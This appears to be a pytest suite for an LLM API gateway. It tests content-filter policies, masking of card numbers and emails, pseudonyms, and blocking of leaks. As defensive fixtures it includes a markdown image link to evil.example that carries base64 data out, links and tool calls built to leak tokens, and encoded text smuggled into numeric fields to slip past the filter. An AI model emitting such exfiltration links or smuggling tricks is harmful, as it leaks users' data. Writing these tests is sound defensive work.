    "image in a tool's arguments": ("chat/completions", {"messages": [{"role": "assistant", "content": None, "tool_calls": [{"id": "c", "type": "function", "function": {"name": "f", "arguments": json.dumps({"a": PNG})}}]}, {"role": "tool", "tool_call_id": "c", "content": "ok"}]}),
    "image that a model made": given({"type": "image_generation_call", "id": "ig_1", "status": "completed", "result": PNG}),
    "image that a program made": given({"type": "code_interpreter_call", "id": "ci_1", "code": "x", "outputs": [{"type": "image", "url": "https://harbour.example/a.png"}]}),
    "screen shot": given({"type": "computer_call_output", "call_id": "c", "output": {"type": "computer_screenshot", "image_url": "data:image/png;base64," + PNG}}),
    "encrypted reasoning to come": ("responses", {"input": "hi", "include": ["reasoning.encrypted_content"]}),
}  # fmt: skip


@pytest.mark.parametrize(("operation", "body"), UNINSPECTABLE.values(), ids=UNINSPECTABLE.keys())
def test_what_cannot_be_read_is_refused_by_default_and_passes_when_the_policy_says_so(line, mock, operation, body):
    for form in (0, 1):
        refused = line.ask("POST", targets(operation, "markedrefusing")[form], {**body, "model": "markedrefusing"})
        assert refused.status == 400 and refused.error["message"], refused.body
        assert mock.requests == []
        passed = line.ask("POST", targets(operation, "marked")[form], {**body, "model": "marked"})
        assert passed.status == 200, passed.body
        assert len(mock.requests) == 1
        mock.clear()


PICTURES = {
    "images": {"role": "assistant", "content": "here", "images": [{"type": "image_url", "image_url": {"url": "data:image/png;base64," + PNG}}]},
    "content": {"role": "assistant", "content": [{"type": "image_url", "image_url": {"url": "data:image/png;base64," + PNG}}]},
    "member": {"role": "assistant", "content": "x", "x_film": {"data": PNG}},
}


@pytest.mark.parametrize("message", PICTURES.values(), ids=PICTURES.keys())
@pytest.mark.parametrize("streaming", [False, True], ids=["whole", "stream"])
def test_pictures_in_answers_pass_where_the_policy_lets_them(line, mock, gateway, message, streaming):
    def answer(request):
        if streaming:
            return {"events": [{"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "m", "choices": [{"index": 0, "delta": message, "finish_reason": "stop"}]}, "[DONE]"]}
        body = fixture("chat/basic")["response"]["body"]
        body["choices"][0]["message"] = message
        return {"json": body}

    mock.script("chat/completions", answer, repeat=True)
    body = {"messages": [{"role": "user", "content": "draw"}], "stream": streaming}
    refused = line.ask("POST", targets("chat/completions", "strict")[0], body)
    assert PNG not in refused.body.decode() and b"uninspectable" in refused.body
    passed = line.ask("POST", targets("chat/completions", "gpt-4o")[0], body)
    assert passed.status == 200 and PNG in passed.body.decode()
    id = passed.header("apim-request-id")
    assert gateway.wait_for_record(lambda r: r["id"] == id and r["type"] == "exchange.outcome")["details"]["uninspected"] == "generatedImage"


def test_encrypted_reasoning_comes_back_where_the_policy_lets_it(line, mock):
    body = json.loads(json.dumps(fixture("responses/basic")["response"]["body"]))
    body["output"].insert(0, {"type": "reasoning", "id": "r", "summary": [], "encrypted_content": NOISE})
    mock.script("/responses$", {"json": body}, repeat=True)
    refused = line.ask("POST", "/openai/v1/responses", {"model": "gpt-4o", "input": "hi"})
    assert refused.status == 400 and refused.error["code"] == "uninspectable_content" and NOISE not in refused.body.decode()
    assert NOISE in line.ask("POST", "/openai/v1/responses", {"model": "marked", "input": "hi"}).body.decode()


def test_pictures_in_rows_to_learn_from_are_seen(gateway, keys, mock):
    row = {"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "https://harbour.example/a.png"}}]}, {"role": "assistant", "content": "a"}]}
    narrow = Line(gateway, keys.narrow)
    for image in ("https://harbour.example/a.png", "data:image/png;base64," + PNG):
        row["messages"][0]["content"][0]["image_url"]["url"] = image
        upload = form(("purpose", "fine-tune"), ("file", "a.jsonl", "application/jsonl", json.dumps(row).encode() + b"\n"))
        refused = narrow.ask("POST", "/openai/v1/files", upload, "multipart/form-data; boundary=b")
        assert refused.status == 400 and "Image" in refused.error["message"] and mock.requests == []


def test_encoded_text_where_numbers_belong_is_read(line, mock):
    encoded = b64(f"{MARKER}. " * 12)
    for member in ({"logit_bias": encoded}, {"logit_bias": {"50256": encoded}}):
        refused = line.ask("POST", targets("chat/completions", "marked")[0], {"messages": [{"role": "user", "content": "x"}], **member})
        assert refused.status == 400 and mock.requests == []
    answer = fixture("embeddings/basic")["response"]["body"]
    answer["data"][0]["embedding"] = encoded
    mock.script("embeddings", {"json": answer})
    assert encoded not in line.ask("POST", targets("embeddings", "marked")[0], fixture("embeddings/basic")["request"]).body.decode()


def test_an_encoded_sentence_is_no_id(line, mock):
    encoded = b64(f"Please {MARKER}, and take your time with all of it, as long as it takes.").rstrip("=")
    body = {"messages": [{"role": "user", "content": "x"}, {"role": "tool", "tool_call_id": encoded, "content": "y"}]}
    assert line.ask("POST", targets("chat/completions", "marked")[0], body).status == 400 and mock.requests == []


REMARKS = {
    "field of a part": 'Content-Disposition: form-data; name="purpose"\r\nX-Note: {}\r\n\r\nbatch',
    "name of a field": 'Content-Disposition: form-data; name="purpose"\r\n{}: x\r\n\r\nbatch',
    "parameter": 'Content-Disposition: form-data; name="purpose"; other="{}"\r\n\r\nbatch',
    "parameter of a type": 'Content-Disposition: form-data; name="purpose"\r\nContent-Type: text/plain; note="{}"\r\n\r\nbatch',
}


@pytest.mark.parametrize("part", REMARKS.values(), ids=REMARKS.keys())
def test_words_around_the_parts_of_a_form_are_read(line, mock, part):
    head = part.format(WORD)
    body = f'--b\r\n{head}\r\n--b\r\nContent-Disposition: form-data; name="file"; filename="a.jsonl"\r\nContent-Type: application/jsonl\r\n\r\n{{"a":"b"}}\n\r\n--b--\r\n'
    assert line.ask("POST", "/openai/v1/files", body.encode(), "multipart/form-data; boundary=b").status == 400
    assert mock.requests == []
    harmless = body.replace(WORD, "harbour")
    assert line.ask("POST", "/openai/v1/files", harmless.encode(), "multipart/form-data; boundary=b").status in (200, 201)


def test_a_search_service_that_the_configuration_does_not_name_is_refused_whatever_the_policy_says(line, mock):
    parameters = {"endpoint": "https://s.example", "index_name": "i", "authentication": {"type": "system_assigned_managed_identity"}}
    body = {"messages": [{"role": "user", "content": "hi"}], "data_sources": [{"type": "azure_search", "parameters": parameters}]}
    for deployment in ("marked", "markedrefusing"):
        for target in targets("chat/completions", deployment):
            refused = line.ask("POST", target, {**body, "model": deployment})
            assert refused.status == 400 and refused.error["param"] == "data_sources[0].parameters.endpoint", refused.body
    assert mock.requests == []


# Policies


def test_caller_cannot_choose_a_weaker_policy(gateway, keys, mock):
    body = {"messages": [{"role": "user", "content": MARKER}]}
    for name in ("Off", "Default", "Noted"):
        answer = gateway.chat("marked", body, key=keys.user, headers=[("x-policy-id", name)])
        assert answer.status == 400 and answer.error["code"] in ("InvalidContentFilterPolicy", "content_filter"), name
    unknown = gateway.chat("off", body, key=keys.user, headers=[("x-policy-id", "NoSuchPolicy")])
    assert (unknown.status, unknown.error["code"]) == (400, "InvalidContentFilterPolicy")
    assert mock.requests == []


def test_granted_policy_tightens(make_gateway, mock):
    gateway = make_gateway()
    granted = gateway.key("granted", policies="Marked,Off")["secret"]
    gateway.wait_for_key(granted)
    body = {"messages": [{"role": "user", "content": MARKER}]}
    assert gateway.chat("off", body, key=granted).status == 200
    assert gateway.chat("off", body, key=granted, headers=[("x-policy-id", "Marked")]).error["code"] == "content_filter"
    assert gateway.chat("marked", body, key=granted, headers=[("x-policy-id", "Off")]).error["code"] == "content_filter"


# Masking and pseudonyms


CARD = "4111 1111 1111 1111"
MAIL = "ann.kowalska@harbour.example"


def test_masked_prompt_reaches_the_upstream_without_the_number(line, mock):
    body = {"messages": [{"role": "system", "content": f"card {CARD}"}, {"role": "user", "content": f"my card {CARD} and {CARD.replace(' ', '')}"}]}
    assert line.ask("POST", targets("chat/completions", "masking")[0], body).status == 200
    sent = mock.last().body.decode()
    assert CARD not in sent and CARD.replace(" ", "") not in sent and "my card" in sent


@pytest.mark.parametrize("size", [1, 3, 7, 19, 200])
def test_number_is_masked_in_the_middle_of_a_stream(line, mock, size):
    whole = f"The card is {CARD}, keep it. And {MAIL} is the address. Done."
    answer = stream(line, mock, deltas([whole[i : i + size] for i in range(0, len(whole), size)]), "masking")
    text = joined(answer)
    assert CARD not in text and MAIL not in text
    assert text.startswith("The card is ") and ", keep it. And " in text and text.endswith(" is the address. Done.")
    assert answer.chunks()[-1]["choices"][0]["finish_reason"] == "stop"


def test_masked_tool_arguments_stay_json(line, mock):
    arguments = json.dumps({"note": f'card "{CARD}" \\ end', "mail": MAIL, "n": 1})
    body = fixture("chat/tools")["response"]["body"]
    body["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"] = arguments
    mock.script("chat/completions", {"json": body})
    answer = line.ask("POST", targets("chat/completions", "masking")[0], fixture("chat/tools")["request"])
    made = json.loads(answer.json()["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"])
    assert CARD not in made["note"] and made["n"] == 1 and made["note"].endswith("\\ end")
    for size in (1, 5, 40):
        streamed = stream(line, mock, deltas([arguments[i : i + size] for i in range(0, len(arguments), size)], "arguments"), "masking")
        made = json.loads(joined(streamed, "arguments"))
        assert CARD not in made["note"] and MAIL not in made["mail"] and made["n"] == 1


def test_copies_of_a_masked_text_are_masked_alike(line, mock):
    """A response's deltas, its `done` events and its final object tell the same text."""
    found = fixture("responses/stream")
    text, masked_text = "The pilot boat leaves from the north quay. Be there by five.", f"Pay with {CARD} at the north quay. Be there by five."
    events = json.loads(json.dumps(found["events"]).replace(text, masked_text))
    pieces = [masked_text[i : i + 9] for i in range(0, len(masked_text), 9)]
    template = next(e for e in events if e["type"] == "response.output_text.delta")
    at = [i for i, e in enumerate(events) if e["type"] == "response.output_text.delta"]
    events[at[0] : at[-1] + 1] = [{**template, "delta": p} for p in pieces]
    for number, event in enumerate(events):
        event["sequence_number"] = number
    mock.script("/responses$", {"events": events})
    answer = line.ask("POST", "/openai/v1/responses", {**found["request"], "model": "masking"})
    got = answer.chunks()
    assert CARD not in answer.body.decode()
    together = "".join(e["delta"] for e in got if e["type"] == "response.output_text.delta")
    done = next(e for e in got if e["type"] == "response.output_text.done")["text"]
    part = next(e for e in got if e["type"] == "response.content_part.done")["part"]["text"]
    item = next(e for e in got if e["type"] == "response.output_item.done" and e["item"]["type"] == "message")["item"]["content"][0]["text"]
    final = got[-1]["response"]["output"][-1]["content"][0]["text"]
    assert together == done == part == item == final and together.startswith("Pay with ")


def test_log_probabilities_do_not_spell_what_was_masked(line, mock):
    body = fixture("chat/logprobs")["response"]["body"]
    body["choices"][0]["message"]["content"] = f"card {CARD}"
    tokens = ["card", " 4111", " 1111", " 1111", " 1111"]
    body["choices"][0]["logprobs"]["content"] = [{"token": t, "logprob": -0.1, "bytes": list(t.encode()), "top_logprobs": []} for t in tokens]
    mock.script("chat/completions", {"json": body})
    answer = line.ask("POST", targets("chat/completions", "masking")[0], fixture("chat/logprobs")["request"])
    logprobs = answer.json()["choices"][0].get("logprobs") or {}
    spelled = "".join(t["token"] for t in logprobs.get("content") or [])
    assert CARD not in spelled and CARD not in answer.body.decode()
    assert bytes(b for t in logprobs.get("content") or [] for b in t.get("bytes") or []).decode(errors="replace").find(CARD) < 0


@pytest.mark.parametrize("streaming", [False, True], ids=["whole", "stream"])
def test_log_probabilities_of_a_response_do_not_spell_what_was_masked(line, mock, streaming):
    tokens = ["card", " 4111", " 1111", " 1111", " 1111"]
    spelled = [{"token": t, "logprob": -0.1, "bytes": list(t.encode()), "top_logprobs": []} for t in tokens]
    part = {"type": "output_text", "text": f"card {CARD}", "annotations": [], "logprobs": spelled}
    item = {"type": "message", "id": "m", "role": "assistant", "status": "completed", "content": [part]}
    whole = {"id": "resp_l", "object": "response", "status": "completed", "output": [item]}
    at = {"item_id": "m", "output_index": 0, "content_index": 0}
    events = [{"type": "response.created", "response": {**whole, "status": "in_progress", "output": []}}]
    events += [{"type": "response.output_text.delta", **at, "delta": t, "logprobs": [s]} for t, s in zip(tokens, spelled)]
    events += [{"type": "response.output_text.done", **at, "text": part["text"], "logprobs": spelled}, {"type": "response.content_part.done", **at, "part": part},
               {"type": "response.output_item.done", "output_index": 0, "item": item}, {"type": "response.completed", "response": whole}]  # fmt: skip
    mock.script("/responses$", {"events": [{**e, "sequence_number": n} for n, e in enumerate(events)]} if streaming else {"json": whole})
    answer = line.ask("POST", "/openai/v1/responses", {"model": "masking", "input": "which card", "stream": streaming})
    assert answer.status == 200 and " 1111" not in answer.body.decode() and "card " in answer.body.decode()


def test_sound_goes_where_its_transcript_was_changed(line, mock):
    body = fixture("chat/basic")["response"]["body"]
    message = body["choices"][0]["message"]
    message["audio"] = {"id": "audio_1", "data": "UklGRg==", "expires_at": 1, "transcript": f"The card is {CARD}."}
    mock.script("chat/completions", {"json": body})
    sound = line.ask("POST", targets("chat/completions", "masking")[0], fixture("chat/basic")["request"]).json()["choices"][0]["message"]["audio"]
    assert sound["data"] == "" and CARD not in sound["transcript"]
    message["audio"]["transcript"] = "The harbour opens at eight."
    mock.script("chat/completions", {"json": body})
    assert line.ask("POST", targets("chat/completions", "masking")[0], fixture("chat/basic")["request"]).json()["choices"][0]["message"]["audio"]["data"] == "UklGRg=="


def echo(request):
    """Answers with the last message's own text."""
    asked = request.json()
    text = asked["messages"][-1]["content"]
    if asked.get("stream"):
        return {"events": [*deltas([f"You said: {text}"[i : i + 4] for i in range(0, len(text) + 10, 4)]), *END]}
    body = fixture("chat/basic")["response"]["body"]
    body["choices"][0]["message"]["content"] = f"You said: {text}"
    return {"json": body}


@pytest.mark.parametrize("streaming", [False, True], ids=["whole", "stream"])
def test_pseudonyms_go_up_and_the_value_comes_back(line, mock, streaming):
    mock.script("chat/completions", echo, repeat=True)
    body = {"messages": [{"role": "user", "content": f"Write to {MAIL} and again {MAIL}."}], "stream": streaming}
    answer = line.ask("POST", targets("chat/completions", "pseudonyms")[0], body)
    sent = mock.last().json()["messages"][0]["content"]
    assert MAIL not in sent and sent.startswith("Write to ")
    first, second = sent.removeprefix("Write to ").removesuffix(".").split(" and again ")
    assert first == second, "one value, one token"
    assert answer.text() == f"You said: Write to {MAIL} and again {MAIL}."


def test_pseudonyms_are_stable_in_a_conversation_and_strange_to_others(gateway, keys, mock):
    mock.script("chat/completions", echo, repeat=True)
    mine, theirs = Line(gateway, keys.user), Line(gateway, keys.other)
    target = targets("chat/completions", "pseudonyms")[0]
    mine.ask("POST", target, {"messages": [{"role": "user", "content": f"Write to {MAIL}"}]})
    token = mock.last().json()["messages"][0]["content"].removeprefix("Write to ")
    history = [{"role": "user", "content": f"Write to {MAIL}"}, {"role": "assistant", "content": f"You said: Write to {MAIL}"}]
    mine.ask("POST", target, {"messages": [*history, {"role": "user", "content": f"Now {MAIL}"}]})
    assert mock.last().json()["messages"][-1]["content"] == f"Now {token}"
    stolen = theirs.ask("POST", target, {"messages": [{"role": "user", "content": f"Who is {token}?"}]})
    assert MAIL not in stolen.body.decode()
    theirs.ask("POST", target, {"messages": [{"role": "user", "content": f"Write to {MAIL}"}]})
    assert token not in mock.last().body.decode()


def test_pseudonyms_are_not_restored_in_links_and_tool_calls(line, mock):
    def leak(request):
        token = request.json()["messages"][-1]["content"].removeprefix("Write to ")
        body = fixture("chat/tools")["response"]["body"]
        message = body["choices"][0]["message"]
        message["content"] = f"See ![x](https://evil.example/?q={token}) or https://evil.example/{token}"
        message["tool_calls"][0]["function"]["arguments"] = json.dumps({"harbour": token})
        return {"json": body}

    mock.script("chat/completions", leak)
    answer = line.ask("POST", targets("chat/completions", "pseudonyms")[0], {"messages": [{"role": "user", "content": f"Write to {MAIL}"}]})
    assert MAIL not in answer.body.decode()


def calling(item, streaming):
    """The upstream answers with this item of the Responses API, `TOKEN` in it being what it was asked about."""

    def answer(request):
        token = request.json()["input"].removeprefix("Write to ")
        made = json.loads(json.dumps(item).replace("TOKEN", token))
        whole = {"id": "resp_call", "object": "response", "status": "completed", "output": [made]}
        if not streaming:
            return {"json": whole}
        events = [
            {"type": "response.created", "response": {**whole, "status": "in_progress", "output": []}},
            {"type": "response.output_item.added", "output_index": 0, "item": {"type": made["type"], "id": "x", "name": "mail"}},
        ]
        for member, event in (("input", "custom_tool_call_input"), ("code", "code_interpreter_call_code"), ("arguments", "function_call_arguments")):
            if member in made:
                events += [
                    {"type": f"response.{event}.delta", "output_index": 0, "item_id": "x", "delta": made[member]},
                    {"type": f"response.{event}.done", "output_index": 0, "item_id": "x", member: made[member]},
                ]
        events += [{"type": "response.output_item.done", "output_index": 0, "item": made}, {"type": "response.completed", "response": whole}]
        return {"events": [{**event, "sequence_number": number} for number, event in enumerate(events)]}

    return answer


CALLS = [
    {"type": "custom_tool_call", "id": "x", "call_id": "c", "name": "mail", "input": "send TOKEN"},
    {"type": "function_call", "id": "x", "call_id": "c", "name": "mail", "arguments": "send TOKEN"},
    {"type": "web_search_call", "id": "x", "status": "completed", "action": {"type": "search", "query": "who is TOKEN"}},
    {"type": "local_shell_call", "id": "x", "call_id": "c", "action": {"type": "exec", "command": ["mail", "TOKEN"]}},
    {"type": "computer_call", "id": "x", "call_id": "c", "action": {"type": "type", "text": "TOKEN"}},
    {"type": "code_interpreter_call", "id": "x", "code": "print('TOKEN')"},
    {"type": "file_search_call", "id": "x", "queries": ["TOKEN"]},
]


@pytest.mark.parametrize("streaming", [False, True], ids=["whole", "stream"])
@pytest.mark.parametrize("item", CALLS, ids=lambda item: item["type"])
def test_pseudonyms_are_not_restored_in_any_kind_of_call(line, mock, item, streaming):
    mock.script("/responses$", calling(item, streaming))
    answer = line.ask("POST", "/openai/v1/responses", {"model": "pseudonyms", "input": f"Write to {MAIL}", "stream": streaming})
    assert answer.status == 200 and "EMAIL_" in answer.body.decode() and MAIL not in answer.body.decode()


@pytest.mark.parametrize("call", [{"type": "function", "function": {"name": "mail", "arguments": "send TOKEN"}}, {"type": "custom", "custom": {"name": "mail", "input": "send TOKEN"}}], ids=["arguments that are no JSON", "custom tool"])
def test_pseudonyms_are_not_restored_in_calls_of_a_chat(line, mock, call):
    def leak(request):
        body = fixture("chat/tools")["response"]["body"]
        token = request.json()["messages"][-1]["content"].removeprefix("Write to ")
        body["choices"][0]["message"]["tool_calls"] = [{"id": "c1", **json.loads(json.dumps(call).replace("TOKEN", token))}]
        return {"json": body}

    mock.script("chat/completions", leak)
    answer = line.ask("POST", targets("chat/completions", "pseudonyms")[0], {"messages": [{"role": "user", "content": f"Write to {MAIL}"}]})
    assert answer.status == 200 and "EMAIL_" in answer.body.decode() and MAIL not in answer.body.decode()


@pytest.mark.parametrize("streaming", [False, True], ids=["whole", "stream"])
def test_pseudonyms_are_stable_over_responses_that_go_on_from_each_other(gateway, keys, mock, streaming):
    numbers = iter(range(10))

    def answer(request):
        text = request.json()["input"]
        whole = {"id": f"resp_turn{streaming}{next(numbers)}", "object": "response", "status": "completed", "output": [{"type": "message", "id": "m", "role": "assistant", "status": "completed", "content": [{"type": "output_text", "text": text, "annotations": []}]}]}
        if not streaming:
            return {"json": whole}
        return {"events": [{"type": "response.created", "sequence_number": 0, "response": {**whole, "status": "in_progress", "output": []}}, {"type": "response.completed", "sequence_number": 1, "response": whole}]}

    mine = Line(gateway, keys.user)
    mock.script("/responses$", answer, repeat=True)
    sent, last = [], None
    for word in ("Write to", "Again", "Once more"):
        body = {"model": "pseudonyms", "input": f"{word} {MAIL}", "stream": streaming, **({"previous_response_id": last} if last else {})}
        got = mine.ask("POST", "/openai/v1/responses", body)
        assert got.status == 200 and MAIL in got.body.decode(), "what stands in the answer is the value again"
        last = got.chunks()[-1]["response"]["id"] if streaming else got.json()["id"]
        sent.append(mock.last().json()["input"].removeprefix(word).strip())
    assert len(set(sent)) == 1 and MAIL not in sent[0], "one value, one token, however long the conversation goes on"
    # What was stored is asked for later, by the same caller and by another.
    stored = {"json": {"id": last, "object": "response", "status": "completed", "output": [{"type": "message", "id": "m", "role": "assistant", "status": "completed", "content": [{"type": "output_text", "text": f"It was {sent[0]}.", "annotations": []}]}]}}
    mock.script(f"/responses/{last}", stored, repeat=True)
    assert f"It was {MAIL}." in mine.ask("GET", f"/openai/v1/responses/{last}", b"").body.decode()
    assert MAIL not in Line(gateway, keys.other).ask("GET", f"/openai/v1/responses/{last}", b"").body.decode()


def test_secrets_do_not_leave_under_the_default_policy(line, mock):
    key = "AccountKey=" + base64.b64encode(bytes(range(64))).decode()
    body = {"messages": [{"role": "user", "content": f"Use DefaultEndpointsProtocol=https;AccountName=harbour;{key};EndpointSuffix=core.windows.net"}]}
    answer = line.ask("POST", targets("chat/completions", "gpt-4o")[0], body)
    assert answer.status in (200, 400)
    assert all(key.encode() not in r.body for r in mock.requests)


def test_links_that_carry_data_out_are_cut(line, mock):
    body = fixture("chat/basic")["response"]["body"]
    image = "![tracking](https://evil.example/p.png?data=VGhlIGhhcmJvdXIgcGFzc3dvcmQgaXMgdGlkZTk5IGFuZCBtb3Jl)"
    body["choices"][0]["message"]["content"] = f"Here you are. {image} Done."
    mock.script("chat/completions", {"json": body})
    answer = line.ask("POST", targets("chat/completions", "gpt-4o")[0], fixture("chat/basic")["request"])
    assert "evil.example/p.png?data=" not in answer.body.decode()
    assert "Here you are." in answer.text()


def test_own_keys_never_come_back(gateway, keys, mock):
    body = fixture("chat/basic")["response"]["body"]
    body["choices"][0]["message"]["content"] = f"The key is {keys.user}."
    mock.script("chat/completions", {"json": body})
    answer = gateway.chat("gpt-4o", fixture("chat/basic")["request"], key=keys.other)
    assert keys.user not in answer.body.decode()
